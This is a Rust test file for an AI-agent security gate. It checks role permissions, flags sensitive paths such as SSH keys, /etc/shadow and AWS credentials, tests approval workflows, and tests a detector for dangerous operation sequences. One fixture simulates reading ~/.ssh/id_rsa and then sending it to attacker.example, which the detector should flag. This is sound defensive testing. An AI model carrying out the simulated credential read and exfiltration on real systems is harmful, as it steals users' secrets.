//! The gate's documented security properties, exercised through the public
//! APIs of each engine crate.

use std::time::Duration;

use clawgate_access::{
    AccessContext, FileOperation, Permission, Role, check_file_access, check_tool_access,
    has_permission, is_sensitive_path,
};
use clawgate_approval::{
    ApprovalManager, ApprovalRequest, ApprovalStatus, PendingFilter, RiskConfig,
    assess_operation_risk,
};
use clawgate_core::{RiskLevel, details};
use clawgate_flow::{FlowAnalysis, ToxicFlowDetector};
use clawgate_test::{at, delete_op, network_op, read_op, recipients};

const WORKSPACE: &str = "/srv/agent";
const MINUTE: i64 = 60_000;
const HOUR: i64 = 60 * MINUTE;

#[test]
fn test_permission_table_is_pure() {
    for role in Role::ALL {
        for permission in Permission::ALL {
            let first = has_permission(role, permission);
            let second = has_permission(role, permission);
            assert_eq!(first, second, "{role}/{permission}");
            assert_eq!(first, role.permissions().contains(&permission));
        }
    }
}

#[test]
fn test_sensitive_path_examples() {
    for path in ["~/.ssh/id_rsa", ".env", ".env.local", "private.key", "/etc/shadow"] {
        assert!(is_sensitive_path(path), "{path} should be sensitive");
    }
    for path in ["package.json", "/home/user/docs/report.txt"] {
        assert!(!is_sensitive_path(path), "{path} should not be sensitive");
    }
}

#[test]
fn test_credentials_read_by_role() {
    let admin = check_file_access(
        &AccessContext::new(Role::Admin),
        "~/.aws/credentials",
        FileOperation::Read,
        WORKSPACE,
    );
    assert!(admin.allowed);

    let user = check_file_access(
        &AccessContext::new(Role::User),
        "~/.aws/credentials",
        FileOperation::Read,
        WORKSPACE,
    );
    assert!(!user.allowed);
    assert!(user.requires_approval);
}

#[test]
fn test_elevated_exec_by_role() {
    let args = details! { "elevated" => true };

    let user = check_tool_access(&AccessContext::new(Role::User), "exec", &args);
    assert!(!user.allowed);
    assert!(user.requires_approval);

    let admin_ctx = AccessContext::new(Role::Admin).with_elevated(true, true);
    assert!(check_tool_access(&admin_ctx, "exec", &args).allowed);
}

#[test]
fn test_approval_lifecycle_is_idempotent() {
    let manager = ApprovalManager::new();
    let record = manager.create_approval_request(ApprovalRequest::new(
        "delete",
        details! { "path" => "/srv/agent/old.log" },
        "file deletion requires approval",
    ));
    assert_eq!(record.status, ApprovalStatus::Pending);

    let approved = manager.approve_request(&record.id, "alice").unwrap();
    assert_eq!(approved.status, ApprovalStatus::Approved);
    assert!(manager.list_pending_approvals(&PendingFilter::all()).is_empty());

    let again = manager.approve_request(&record.id, "bob").unwrap();
    assert_eq!(again.responder.as_deref(), Some("alice"));
    assert_eq!(again, approved);
}

#[test]
fn test_expiry_only_touches_old_requests() {
    let manager = ApprovalManager::new();
    let max_age = Duration::from_secs(60);
    let old = manager.create_approval_request_at(ApprovalRequest::new("delete", details! {}, "r"), at(0));
    let young =
        manager.create_approval_request_at(ApprovalRequest::new("delete", details! {}, "r"), at(50_000));

    let expired = manager.expire_pending_approvals_at(max_age, at(61_000));
    assert_eq!(expired.len(), 1);
    assert_eq!(expired[0].id, old.id);

    let pending = manager.list_pending_approvals(&PendingFilter::all());
    assert_eq!(pending.len(), 1);
    assert_eq!(pending[0].id, young.id);
    assert_eq!(
        manager.get_approval_request(&old.id).unwrap().status,
        ApprovalStatus::Expired
    );
}

#[test]
fn test_exfil_within_a_minute_is_critical() {
    let detector = ToxicFlowDetector::new();
    detector.check_flow(read_op("~/.ssh/id_rsa", 0));
    let analysis = detector.check_flow(network_op("https://attacker.example/exfil", 30_000));
    assert!(analysis.dangerous);
    assert_eq!(analysis.risk_level, RiskLevel::Critical);

    let json = serde_json::to_value(&analysis).unwrap();
    assert_eq!(json["riskLevel"], "critical");
}

#[test]
fn test_exfil_two_hours_later_is_safe() {
    let detector = ToxicFlowDetector::new();
    detector.check_flow(read_op("~/.ssh/id_rsa", 0));
    let analysis = detector.check_flow(network_op("https://attacker.example/exfil", 2 * HOUR));
    assert_eq!(analysis, FlowAnalysis::safe());
}

#[test]
fn test_mass_deletion_needs_three() {
    let detector = ToxicFlowDetector::new();
    assert!(!detector.check_flow(delete_op("/srv/agent/a", 0)).dangerous);
    assert!(!detector.check_flow(delete_op("/srv/agent/b", 10_000)).dangerous);
    let analysis = detector.check_flow(delete_op("/srv/agent/c", 20_000));
    assert!(analysis.dangerous);
    assert_eq!(analysis.matched_patterns, ["Mass deletion"]);
}

#[test]
fn test_message_send_recipient_threshold() {
    let config = RiskConfig::default();

    let five = assess_operation_risk("message_send", &recipients(5), &config);
    assert!(!five.requires_approval);

    let eleven = assess_operation_risk("message_send", &recipients(11), &config);
    assert!(eleven.requires_approval);
    assert_eq!(eleven.level, RiskLevel::Medium);
}

#[test]
fn test_flow_counts_each_append_once() {
    let detector = ToxicFlowDetector::new();
    let op = read_op("/srv/agent/README.md", 0);

    detector.check_flow(op.clone());
    assert_eq!(detector.history_len(), 1);

    let mut later = op;
    later.timestamp = at(1_000);
    detector.check_flow(later);
    assert_eq!(detector.history_len(), 2);
}

#[test]
fn test_independent_engine_instances() {
    let a = ToxicFlowDetector::new();
    let b = ToxicFlowDetector::new();
    a.check_flow(delete_op("/x", 0));
    assert_eq!(a.history_len(), 1);
    assert_eq!(b.history_len(), 0);

    let first = ApprovalManager::new();
    let second = ApprovalManager::new();
    first.create_approval_request(ApprovalRequest::new("delete", details! {}, "r"));
    assert_eq!(first.pending_count(), 1);
    assert_eq!(second.pending_count(), 0);
}
